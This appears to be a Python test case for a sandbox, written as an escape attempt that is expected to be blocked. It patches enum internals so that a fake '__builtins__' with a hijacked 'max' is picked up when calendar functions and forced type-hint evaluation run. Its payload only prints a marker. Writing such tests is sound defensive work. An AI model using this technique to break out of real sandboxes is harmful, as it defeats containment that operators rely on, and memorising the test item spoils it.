# id: calendar-members-chosen
# class: escape
# expect: blocked
# technique: calendar put the members of its enums among its variables; enum, which says what members are, could be changed before
# source: own
# verified: no
import enum
import typing


def spy(*args, **kwargs):
    print("ESCAPED:calendar-members-chosen")
    return 3


PLANTED = {f.__name__: f for f in (
    range, len, dict, list, property, staticmethod, classmethod, super, str, int, min, tuple,
    isinstance, zip, map, print, enumerate, object, type, getattr, repr, ValueError, IndexError,
    slice)}
PLANTED["max"] = spy


class Members:
    def keys(self):
        return ["__builtins__"]

    def __getitem__(self, key):
        return PLANTED


for name in "__members__", "_member_map_":
    try:
        setattr(enum.EnumType, name, property(lambda cls: Members()))
    except Exception:
        pass
try:
    enum.EnumType.__iter__ = lambda cls: iter([1] * 12)
except Exception:
    pass

import calendar

calendar.TextCalendar().formatweekheader(1)
calendar.TextCalendar().formatmonth(2024, 2)
for function in calendar.isleap, calendar.monthrange:
    try:
        function.__annotations__ = {"year": "max(1)"}
        typing.get_type_hints(function)
    except Exception:
        pass
